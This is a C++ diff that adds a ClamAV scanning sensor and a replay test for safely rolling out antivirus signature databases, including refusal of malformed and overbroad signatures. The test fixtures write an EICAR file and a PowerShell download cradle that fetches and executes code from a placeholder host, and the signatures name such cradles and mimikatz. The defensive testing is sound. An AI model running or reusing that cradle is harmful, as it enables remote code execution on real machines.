@@ -198,7 +198,12 @@ int run_probe(const std::string& path, const std::string& type) {
     }
   }
   const load_result r = load_database(db_path, wd.path);
-  for (const auto& m : r.messages) std::fprintf(stderr, "%s\n", m.c_str());
+  // libclamav names files by their whole path: the tree's own path says more.
+  const std::string root = db_path.string() + "/";
+  for (std::string m : r.messages) {
+    for (auto at = m.find(root); at != std::string::npos; at = m.find(root)) m.erase(at, root.size());
+    std::fprintf(stderr, "%s\n", m.c_str());
+  }
   if (!r.db) {
     std::fprintf(stderr, "probe: the database does not load: %s\n", r.error.c_str());
     return 1;
@@ -248,6 +253,115 @@ int run_scan(const std::string& path, const std::vector<std::string>& files) {
   return rc;
 }
 
+// Scans a file on disk; returns the signature's name in virus ("" when clean).
+cl_error_t scan_file(const database& db, const std::string& path, std::string& virus) {
+  virus.clear();
+  const char* vname = nullptr;
+  unsigned long scanned = 0;
+  cl_scan_options o;
+  std::memset(&o, 0, sizeof o);
+  const cl_error_t rc = cl_scanfile(path.c_str(), &vname, &scanned, db.engine, &o);
+  if (rc == CL_VIRUS) {
+    virus = vname ? vname : "?";
+    return CL_CLEAN;
+  }
+  return rc;
+}
+
+// --- the sensor ----------------------------------------------------------------
+
+// Scans the files that arrive in its watched directory with the database
+// slotguard serves, and heartbeats after each pass. When the served content
+// changes it loads the new database from the files where slotguard unpacked
+// it (active_content::path(), valid while held) and swaps the engine in; a
+// scan in progress keeps the engine it started with.
+class clamav_sensor {
+ public:
+  clamav_sensor(sg::guard& g, fs::path watched, std::string work) : guard_(g), watched_(std::move(watched)), work_(std::move(work)) {}
+  clamav_sensor(const clamav_sensor&) = delete;
+  clamav_sensor& operator=(const clamav_sensor&) = delete;
+  ~clamav_sensor() { stop(); }
+
+  void start() {
+    thread_ = std::thread([this] { loop(); });
+  }
+  void stop() {
+    stop_ = true;
+    if (thread_.joinable()) thread_.join();
+  }
+  std::uint64_t database_sequence() const { return db_seq_.load(); }
+  // What the sensor found in a file ("" if nothing yet).
+  std::string found(const std::string& file) {
+    std::lock_guard<std::mutex> lock(mu_);
+    for (const auto& [f, v] : found_)
+      if (f == file) return v;
+    return {};
+  }
+
+ private:
+  void refresh(const sg::active_content* c) {
+    if (!c || c->path().empty()) {
+      db_.reset();
+      db_seq_ = 0;
+      if (c) say("    [sensor] sequence %llu has no files to load (not a tree payload)", ull(c->sequence()));
+      return;
+    }
+    const auto t0 = std::chrono::steady_clock::now();
+    load_result r = load_database(c->path(), work_);
+    if (!r.db) {
+      say("    [sensor] sequence %llu does not load here: %s", ull(c->sequence()), r.error.c_str());
+      (void)guard_.report_unhealthy("the database does not load in the sensor");
+      return;
+    }
+    db_ = std::move(r.db);
+    db_seq_ = c->sequence();
+    say("    [sensor] database of sequence %llu loaded from the slot's tree (%u signatures, %lld ms) and swapped in",
+        ull(c->sequence()), db_->signatures, millis_since(t0));
+  }
+
+  void loop() {
+    sg::content_reader reader = guard_.reader();
+    const sg::active_content* seen = nullptr;
+    bool first = true;
+    while (!stop_) {
+      const sg::active_content* c = reader.get();
+      if (first || c != seen) {
+        refresh(c);
+        seen = c;
+        first = false;
+      }
+      const database_handle held = db_;
+      std::error_code ec;
+      if (held) {
+        for (auto it = fs::directory_iterator(watched_, ec); !ec && it != fs::directory_iterator(); it.increment(ec)) {
+          std::string virus;
+          if (scan_file(*held, it->path().string(), virus) != CL_SUCCESS || virus.empty()) continue;
+          const std::string name = it->path().filename().string();
+          std::lock_guard<std::mutex> lock(mu_);
+          bool known = false;
+          for (const auto& [f, v] : found_) known = known || (f == name && v == virus);
+          if (!known) {
+            found_.emplace_back(name, virus);
+            say("    [sensor] %s: %s FOUND", name.c_str(), virus.c_str());
+          }
+        }
+      }
+      guard_.heartbeat();
+      std::this_thread::sleep_for(20ms);
+    }
+  }
+
+  sg::guard& guard_;
+  fs::path watched_;
+  std::string work_;
+  std::thread thread_;
+  std::atomic<bool> stop_{false};
+  std::atomic<std::uint64_t> db_seq_{0};
+  database_handle db_;  // the scan thread's own
+  std::mutex mu_;
+  std::vector<std::pair<std::string, std::string>> found_;
+};
+
 // --- the replay ----------------------------------------------------------------
 
 std::string hex(const std::string& s) {
@@ -260,20 +374,32 @@ std::string hex(const std::string& s) {
   return out;
 }
 
-// Body signatures (.ndb: Name:TargetType:Offset:HexSignature).
-std::string good_ndb() {
-  return "SG.Test.Eicar:0:0:" + hex(std::string(eicar).substr(0, 32)) + "\n" +
-         "SG.Script.DownloadCradle:0:*:" + hex("DownloadString(") + "\n";
+// The vendor's database tree: body signatures (.ndb:
+// Name:TargetType:Offset:HexSignature) and logical signatures (.ldb:
+// Name;TargetDescription;Expression;Subsignatures...).
+tree_files good_database() {
+  return {
+      {"main/test.ndb", "SG.Test.Eicar:0:0:" + hex(std::string(eicar).substr(0, 32)) + "\n"},
+      {"scripts/cradle.ldb",
+       "SG.Script.DownloadCradle;Engine:51-255,Target:0;0&1;" + hex("DownloadString(") + ";" + hex("IEX") + "\n"},
+  };
 }
 
+tree_files with(tree_files t, std::string path, std::string text) {
+  t.emplace_back(std::move(path), std::move(text));
+  return t;
+}
+
+// The validate gate: a tree of signature files, each text. libclamav, in
+// the probe, judges the signatures.
 sg::content_check database_validator() {
-  return sg::content_check(sg::validator_fn([](sg::byte_view p) -> sg::result<void, sg::validation_error> {
-    if (p.size() > 0 && p.size() <= (64u << 20)) return {};
-    sg::validation_error e;
-    e.code = sg::errc::validator_rejected;
-    e.message = "a signature file is 1 byte to 64 MiB";
-    return e;
-  }));
+  return tree_validator({".ndb", ".hdb", ".ldb", ".hsb", ".mdb", ".msb"},
+                        [](const std::string&, sg::byte_view data) -> std::string {
+                          if (data.size() == 0 || data.size() > (64u << 20)) return "1 byte to 64 MiB";
+                          for (std::size_t i = 0; i < data.size(); ++i)
+                            if (data[i] == 0) return "signatures are text: a NUL byte at " + std::to_string(i);
+                          return {};
+                        });
 }
 
 int run_replay(const std::vector<std::string>& self, bool keep) {
@@ -281,16 +407,17 @@ int run_replay(const std::vector<std::string>& self, bool keep) {
     say("cl_init failed");
     return 1;
   }
-  say("clamav_sensor: libclamav %s signatures behind slotguard", cl_retver());
+  say("clamav_sensor: libclamav %s signatures behind slotguard (only the replay's own database is loaded)",
+      cl_retver());
   temp_dir dir("slotguard-clamav");
   dir.keep = keep;
-  const publisher pub("clamav-signatures", "clamav.ndb");
+  const publisher pub("clamav-signatures", "clamav.db");
   event_record events;
 
   sg::probe_options po;
   po.time_limit = 10000ms;
   std::vector<std::string> probe_cmd = self;
-  probe_cmd.insert(probe_cmd.end(), {"--probe", "{}", "--type", "ndb"});
+  probe_cmd.insert(probe_cmd.end(), {"--probe", "{}"});
   const sg::probe candidate_probe = sg::probe::isolated(probe_cmd, po);
   sg::native_storage disk;
   sg::guard_options o = sensor_options(disk, dir.path, pub, database_validator(), candidate_probe);
@@ -301,13 +428,20 @@ int run_replay(const std::vector<std::string>& self, bool keep) {
     return 1;
   }
   sg::guard& g = **opened;
-  std::atomic<bool> stop{false};
-  std::thread beats([&] {
-    while (!stop) {
-      g.heartbeat();
-      std::this_thread::sleep_for(10ms);
-    }
-  });
+
+  // The sensor's watched directory: the files live traffic brings, written
+  // now (the EICAR test file from its standard 68-byte string).
+  const fs::path watched = dir.path / "incoming";
+  const fs::path work = dir.path / "engine-tmp";
+  std::error_code ec;
+  fs::create_directories(watched, ec);
+  fs::create_directories(work, ec);
+  (void)write_file(watched / "eicar.com", eicar);
+  (void)write_file(watched / "notes.txt", "meeting at 10, bring the quarterly numbers\n");
+  (void)write_file(watched / "dropper.ps1",
+                   "$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://example.invalid/a'))\n");
+  clamav_sensor sensor(g, watched, work.string());
+  sensor.start();
   std::vector<outcome_row> rows;
 
   auto refused = [&](std::uint64_t seq, const std::string& needle, outcome_row& r) {
@@ -315,7 +449,7 @@ int run_replay(const std::vector<std::string>& self, bool keep) {
     (void)events.find(sg::event_kind::probe_failed, seq, &ev);
     r.observed = events.decision(seq);
     const std::string says = output_line(ev.detail, needle);
-    if (says.empty() || !is_quarantined(g, seq) || g.status().served != 1)
+    if (says.empty() || !is_quarantined(g, seq) || g.status().served != 1 || sensor.database_sequence() != 1)
       r.observed += " (without libclamav's words, quarantine or the old database)";
     r.evidence = "probe " + probe_ending(ev.detail) + " after " + std::to_string(probe_ms_of(ev.detail)) +
                  " ms; " + says;
@@ -323,33 +457,41 @@ int run_replay(const std::vector<std::string>& self, bool keep) {
 
   {
     say("\nScenario 1: a good signature database");
-    outcome_row r{"good database", "committed", "", "", -1};
-    const auto e = timed_apply(g, pub.bundle(1, "good", good_ndb()), r.apply_ms);
+    outcome_row r{"good database", "committed; sensor detects EICAR", "", "", -1};
+    const fs::path src = dir.path / "publish" / "1";
+    const bool before = !sensor.found("eicar.com").empty();
+    const auto e = timed_apply(g, pub.bundle(1, "good", pack_tree(src, good_database())), r.apply_ms);
     const bool committed = events.find(sg::event_kind::committed, 1, nullptr, 5000ms);
-    r.observed = e != sg::errc::ok ? std::string("rejected: ") + sg::to_string(e) : events.decision(1);
-    (void)committed;
-    const sg::probe_report rep = probe_alone(candidate_probe, good_ndb(), dir.path);
-    r.evidence = accepted_words(rep) + "; " + tail_line(rep, "eicar.com");
+    const bool detects = wait_until([&] { return !sensor.found("eicar.com").empty(); }, 3000ms);
+    r.observed = e != sg::errc::ok ? std::string("rejected: ") + sg::to_string(e)
+                 : !committed      ? events.decision(1)
+                 : detects && !before && sensor.database_sequence() == 1 ? "committed; sensor detects EICAR"
+                                                                          : "committed; sensor does not detect";
+    const sg::probe_report rep = probe_alone(candidate_probe, src);
+    r.evidence = "sensor: eicar.com " + sensor.found("eicar.com") + ", dropper.ps1 " + sensor.found("dropper.ps1") +
+                 "; " + accepted_words(rep) + "; " + tail_line(rep, "signatures loaded");
     rows.push_back(r);
   }
   {
     say("\nScenario 2: a malformed signature (an odd number of hex digits)");
     outcome_row r{"malformed signature", "refused by the probe: probe_failed", "", "", -1};
-    (void)timed_apply(g, pub.bundle(2, "malformed", good_ndb() + "SG.Tool.Mimikatz:0:*:" + hex("mimikatz") + "7\n"),
-                      r.apply_ms);
+    const tree_files db = with(good_database(), "tools/mimikatz.ndb", "SG.Tool.Mimikatz:0:*:" + hex("mimikatz") + "7\n");
+    (void)timed_apply(g, pub.bundle(2, "malformed", pack_tree(dir.path / "publish" / "2", db)), r.apply_ms);
     refused(2, "Malformed hexstring", r);
+    sg::event ev;
+    (void)events.find(sg::event_kind::probe_failed, 2, &ev);
+    r.evidence += "; " + output_line(ev.detail, "Can't load");
     rows.push_back(r);
   }
   {
     say("\nScenario 3: a signature that flags a clean file");
     outcome_row r{"false positive on a clean sample", "refused by the probe: probe_failed", "", "", -1};
-    (void)timed_apply(g, pub.bundle(3, "overbroad", good_ndb() + "SG.Script.Shell:0:0:" + hex("#!/bin/sh") + "\n"),
-                      r.apply_ms);
+    const tree_files db = with(good_database(), "scripts/shell.ndb", "SG.Script.Shell:0:0:" + hex("#!/bin/sh") + "\n");
+    (void)timed_apply(g, pub.bundle(3, "overbroad", pack_tree(dir.path / "publish" / "3", db)), r.apply_ms);
     refused(3, "false positive", r);
     rows.push_back(r);
   }
-  stop = true;
-  beats.join();
+  sensor.stop();
   (void)g.shutdown();
   return print_table("ClamAV", rows) ? 0 : 1;
 }
